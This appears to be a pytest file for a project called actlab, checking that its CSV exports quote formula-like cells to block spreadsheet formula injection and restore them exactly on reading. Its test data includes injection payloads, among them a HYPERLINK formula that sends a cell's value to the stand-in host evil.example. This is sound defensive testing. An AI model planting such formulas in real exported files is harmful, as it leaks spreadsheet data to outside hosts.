"""Every CSV actlab writes neutralises the cells a spreadsheet would run as formulas, and only those.

The issue's probes: `claims.csv` let `" =1+2"` and `"＝3+3"` (a full-width equals sign) through, and a sweep's
`results.csv` wrote `=HYPERLINK(...)`, `@SUM(A1)` and `+1+1` raw. A formula-like text cell now starts with `'`;
numbers (a negative float included) are written as numbers, and a sweep's table reads back exactly as labelled.
"""

from __future__ import annotations

import csv
import doctest
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from actlab.claim import Claim

HOSTILE = [" =1+2", "\uff1d3+3", '=HYPERLINK("http://evil.example/?x="&A1, "click")', "@SUM(A1)", "+1+1", "-2+3"]
HOSTILE += ["\t=1", "\r=1", "\u3000=1", "\uff0b1", "\uff201"]  # a tab, a return, an ideographic space, ＋, ＠
HARMLESS = ["relu", "a=b", "1e-3 lr", "", "'quoted", "x - y", "line\n=1", "cr\r=1"]  # one cell each (quoted)


def _claim(claim_id: str, **changes) -> Claim:
    base = Claim(claim_id=claim_id, study="", title=claim_id, statement="s", source="p", units="", n=2, budget="b",
                 estimate=0.5, ci=(0.1, 0.9), verdict="supported", rule="r", rule_name="r")  # fmt: skip
    return base.with_changes(**changes)


def test_claims_csv_neutralises_trimmed_and_nfkc_formula_cells_and_keeps_numbers():
    from actlab.site.downloads import claims_csv

    claims = [_claim(f"c{i}", title=text, estimate=-0.5) for i, text in enumerate(HOSTILE + HARMLESS)]
    rows = list(csv.DictReader(io.StringIO(claims_csv(claims), newline="")))
    titles = [row["title"] for row in rows]
    assert titles == ["'" + text for text in HOSTILE] + HARMLESS
    assert {row["estimate"] for row in rows} == {"-0.5"}  # a number, not text: never quoted
    assert {row["ci_low"] for row in rows} == {"0.1"}


def test_a_sweep_s_results_csv_neutralises_its_labels_and_reads_them_back_as_given(tmp_path):
    """The grid labels of a sweep are written into results.csv; hostile ones are quoted there and restored by
    `load_results`, so an analysis filtering on a label still finds it."""
    import pandas as pd

    from actlab.io import atomic_write_json
    from actlab.sweep.results import load_results
    from actlab.sweep.runner import Run, write_results_csv

    labels = ['=HYPERLINK("http://x")', "@SUM(A1)", "+1+1", " =1+2", "\uff1d3+3", "'=already", "cr\r=1", "relu"]
    folder = tmp_path / "runs" / "s"
    runs = []
    for index, label in enumerate(labels):
        run_folder = folder / f"r{index}"
        run_folder.mkdir(parents=True)
        (run_folder / "status.json").write_text('{"status": "ok"}')
        (run_folder / "results.json").write_text('{"loss": -0.5}')
        runs.append(Run(run_id=f"r{index}", params={}, labels={"act": label, "lr": -0.5}, folder=run_folder))
    path = write_results_csv(runs, folder / "results.csv")
    cells = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
    assert [row["act"] for row in cells] == ["'" + label for label in labels[:-2]] + ["cr\r=1", "relu"]
    assert {row["lr"] for row in cells} == {"-0.5"} and {row["value"] for row in cells} == {"-0.5"}
    atomic_write_json(folder / "sweep.json", {"name": "s", "run_ids": [run.run_id for run in runs]})
    table = load_results(tmp_path / "runs", "s")
    assert list(table["act"]) == labels
    assert table["lr"].dtype == float and pd.api.types.is_float_dtype(table["value"])


@given(st.text(max_size=12))
def test_neutralising_is_exactly_undone_and_leaves_no_formula(text):
    from actlab.spreadsheet import is_formula, neutralise_cell, restore_cell

    cell = neutralise_cell(text)
    assert restore_cell(cell) == text
    assert not is_formula(cell)  # what a spreadsheet sees starts with a quote or with something harmless


@pytest.mark.parametrize("value", [-0.5, -1, 0, 2.5, float("nan"), None, True])
def test_non_text_is_never_quoted(value):
    from actlab.spreadsheet import neutralise_cell

    assert neutralise_cell(value) is value


def test_the_module_s_examples_run():
    import actlab.spreadsheet

    failures, tried = doctest.testmod(actlab.spreadsheet)
    assert failures == 0 and tried >= 3
